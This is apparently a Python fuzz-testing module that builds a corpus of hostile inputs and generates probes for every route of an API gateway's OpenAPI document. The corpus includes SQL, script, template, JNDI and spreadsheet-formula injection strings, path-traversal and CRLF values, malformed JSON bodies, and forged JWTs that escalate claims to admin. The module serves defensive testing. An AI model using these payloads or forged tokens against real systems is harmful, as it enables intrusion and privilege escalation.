"""The hostile-input corpus, by class, and the probes built from the gateway's OpenAPI document.

Every operation of the document gets probes for each of its path parameters, query parameters, JSON body and
headers, so a route added later is probed without a change here. A probe is a plain request; what an answer
must look like is asserted by the tests (``test_openapi_corpus.py``).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

# Text values by class (sent as query values and as every string of a body).
CONTROL = ["a\x00b", "\x00", "a\x1bb[31m", "a\x7f", "a\u0085b", "a\x08b", "\r\nSet-Cookie: x=1"]
INJECTION = [
    "' OR '1'='1",
    "1; DROP TABLE customers;--",
    "${jndi:ldap://x.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    '=HYPERLINK("http://x.example")',
    "%s%s%n",
    "\u202egnp.exe",
]
NUMBERS = ["9" * 30, "-9223372036854775809", "9223372036854775808", "1e999", "NaN", "-1", "2147483648", "0x10"]
DATES = [
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-14:00",
    "0000-00-00",
    "2026-02-30",
    "0001-01-01",
    "9999-12-31",
    "2026-01-01T25:61:61Z",
]
SIZES = ["x" * 5000]
TEXT_CLASSES = {"control": CONTROL, "injection": INJECTION, "numbers": NUMBERS, "dates": DATES, "sizes": SIZES}
# Query and path values already percent-encoded: broken and overlong UTF-8, a lone surrogate, NUL, path tricks.
ENCODED = ["%ff%fe", "%c0%af", "%ed%a0%80", "%e4%b8", "%00", "a%00b"]
PATH_TRICKS = [
    "%00",
    "a%00b",
    "..%2F..%2Fadmin",
    "%2e%2e",
    "x%2F..%2Fy",
    "..",
    "%ff",
    "%c0%af",
    "%0d%0aX:1",
    "x" * 3000,
]

# Bodies that are broken as a whole.
_DEEP = b"[" * 100_000 + b"]" * 100_000
RAW_BODIES: dict[str, bytes] = {
    "gbk": json.dumps({"name": "中文名字", "reason": "原因"}, ensure_ascii=False).encode("gbk"),
    "overlong-utf8": b'{"name": "\xc0\xaf\xe0\x80\xaf"}',
    "invalid-utf8": b'\xff\xfe{"name": "x"}',
    "surrogate-escape": b'{"name": "\\ud800"}',
    "deep-array": _DEEP,
    "deep-in-field": b'{"name": ' + _DEEP + b', "reason": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}",
    "nested-33": b'{"a":' * 33 + b"1" + b"}" * 33,
    "empty": b"",
    "null": b"null",
    "array": b"[]",
    "truncated": b'{"name": "x',
    "huge-number": b'{"name": 1e999, "version": 1000000000000000000000000000000}',
    "huge-string": json.dumps({"name": "x" * 900_000}).encode(),
    "too-large": b'{"name": "' + b"x" * 2_000_000 + b'"}',
}

HEADER_TRICKS: dict[str, dict[str, str | bytes]] = {
    "if-match-30-digits": {"If-Match": '"' + "9" * 30 + '"'},
    "if-match-garbage": {"If-Match": 'W/"-1", "abc"'},
    "if-match-latin1": {"If-Match": b'"\xe9"'},
    "idempotency-key-long": {"Idempotency-Key": "k" * 5000},
    "idempotency-key-latin1": {"Idempotency-Key": b"\xe9\xff"},
    "content-type-gbk": {"Content-Type": "application/json; charset=gbk"},
    "content-type-form": {"Content-Type": "application/x-www-form-urlencoded"},
    "content-type-multipart": {"Content-Type": "multipart/form-data; boundary=x"},
    "forwarded-for": {"X-Forwarded-For": "999.1.1.1, not-an-ip, ::::"},
    "request-id": {"X-Request-Id": "../../" + "x" * 300},
    "accept-xml": {"Accept": "application/xml"},
}


def _b64(data: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


def token_tricks(real: str) -> dict[str, str]:
    """Authorization values that must all answer 401: a tampered signature, ``alg: none`` with the real claims
    made an admin's, a payload swapped under the real signature, garbage and other schemes."""
    header, payload, signature = real.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    escalated = {**claims, "roles": ["admin", "branch_head"], "scope": "all"}
    flipped = ("A" if signature[0] != "A" else "B") + signature[1:]
    return {
        "tampered-signature": f"Bearer {header}.{payload}.{flipped}",
        "alg-none": f"Bearer {_b64({'alg': 'none', 'typ': 'JWT'})}.{_b64(escalated)}.",
        "alg-none-no-dot": f"Bearer {_b64({'alg': 'none'})}.{_b64(escalated)}",
        "swapped-payload": f"Bearer {header}.{_b64(escalated)}.{signature}",
        "garbage": "Bearer a.b.c",
        "empty": "Bearer",
        "basic": "Basic YWRtaW46eA==",
        "long": "Bearer " + "x" * 8000,
    }


@dataclass
class Operation:
    """One operation of the OpenAPI document."""

    method: str
    template: str
    path_params: list[str]
    query_params: list[str]
    body_schema: dict[str, Any] | None
    permission: str = ""


@dataclass
class Probe:
    """A request to send: ``raw_path`` already percent-encoded, ``content`` the raw body (None: no body)."""

    label: str
    method: str
    raw_path: str
    params: list[tuple[str, str]] | str = field(default_factory=list)
    content: bytes | None = None
    headers: dict[str, str | bytes] = field(default_factory=dict)


def operations(document: dict[str, Any]) -> list[Operation]:
    """Every operation of the OpenAPI document, its body schema resolved."""
    found = []
    for template, item in document["paths"].items():
        for method, op in item.items():
            if method not in ("get", "post", "put", "patch", "delete"):
                continue
            params = op.get("parameters", [])
            body = op.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
            found.append(
                Operation(
                    method=method.upper(),
                    template=template,
                    path_params=[p["name"] for p in params if p["in"] == "path"],
                    query_params=[p["name"] for p in params if p["in"] == "query"],
                    body_schema=_resolve(document, body) if body is not None else None,
                )
            )
    return found


def _resolve(document: dict[str, Any], schema: dict[str, Any], depth: int = 0) -> dict[str, Any]:
    """``schema`` with its ``$ref``s replaced (to a few levels: enough for a template body)."""
    if depth > 6:
        return {}
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        return _resolve(document, document["components"]["schemas"][name], depth + 1)
    resolved = dict(schema)
    for key in ("oneOf", "anyOf"):
        if key in resolved:
            choices = [_resolve(document, s, depth + 1) for s in resolved[key]]
            concrete = [c for c in choices if c.get("type") != "null"]
            return concrete[0] if concrete else {}
    if "properties" in resolved:
        resolved["properties"] = {k: _resolve(document, v, depth + 1) for k, v in resolved["properties"].items()}
    if "items" in resolved:
        resolved["items"] = _resolve(document, resolved["items"], depth + 1)
    return resolved


def template_body(schema: dict[str, Any], text: str, number: int | float | str) -> Any:
    """A body shaped like ``schema`` with every string ``text`` and every number ``number``."""
    kind = schema.get("type")
    if isinstance(kind, list):
        kind = next((k for k in kind if k != "null"), None)
    if kind == "object" or "properties" in schema:
        return {k: template_body(v, text, number) for k, v in schema.get("properties", {}).items()}
    if kind == "array":
        return [template_body(schema.get("items", {}), text, number)] * 3
    if kind in ("integer", "number"):
        return number
    if kind == "boolean":
        return True
    return text


def probes(op: Operation, base_ids: dict[str, str], *, full: bool) -> Iterator[Probe]:
    """The probes of one operation. ``base_ids`` gives each path parameter's value when another part is probed
    (a real customer of another branch, so any 2xx there is a scope leak). ``full`` sends every value of every
    class to every parameter; otherwise each parameter gets a rotating sample with every class represented."""

    def path(**override: str) -> str:
        out = op.template
        for name in op.path_params:
            out = out.replace("{" + name + "}", override.get(name, base_ids.get(name, "x")))
        return out

    base_path = path()
    empty_body = b"{}" if op.body_schema is not None else None
    json_headers: dict[str, str | bytes] = {"Content-Type": "application/json"} if empty_body else {}
    # Path parameters and whole-path tricks.
    for name in op.path_params:
        for trick in PATH_TRICKS:
            yield Probe(f"path {name}={trick[:20]}", op.method, path(**{name: trick}), [], empty_body, json_headers)
    for trick in ("//", "/%00", "/..%2F", "/./"):
        yield Probe(f"path +{trick}", op.method, base_path.replace("/api/v1/", "/api/v1" + trick, 1), [], empty_body)
    # Query parameters: every class of text, broken encodings, and one parameter repeated 50 times.
    values = [v for group in TEXT_CLASSES.values() for v in group]
    for index, name in enumerate(op.query_params):
        sample = values if full else [group[index % len(group)] for group in TEXT_CLASSES.values()]
        for value in sample:
            yield Probe(f"query {name}={value[:20]!r}", op.method, base_path, [(name, value)], empty_body, json_headers)
        for encoded in ENCODED if full else ENCODED[index % 3 :: 3]:
            yield Probe(f"query {name}={encoded}", op.method, base_path, f"{name}={encoded}", empty_body, json_headers)
    if op.query_params:
        name = op.query_params[0]
        yield Probe(f"query {name} x50", op.method, base_path, [(name, f"v{i}") for i in range(50)], empty_body)
    # Bodies: broken as a whole, then shaped like the schema with every string and number hostile.
    if op.body_schema is not None:
        for label, raw in RAW_BODIES.items():
            yield Probe(f"body {label}", op.method, base_path, [], raw, {"Content-Type": "application/json"})
        texts = values if full else [group[0] for group in TEXT_CLASSES.values()] + CONTROL[1:3]
        numbers: list[int | float | str] = [10**30, -(2**63) - 1, 2**31, -1, 1.5, "1"]
        for i, text in enumerate(texts):
            body = template_body(op.body_schema, text, numbers[i % len(numbers)])
            yield Probe(
                f"body strings={text[:20]!r}", op.method, base_path, [], json.dumps(body).encode(), json_headers
            )
    # Header tricks (with an empty JSON object where the operation takes a body).
    for label, headers in HEADER_TRICKS.items():
        yield Probe(f"header {label}", op.method, base_path, [], empty_body, {**json_headers, **headers})
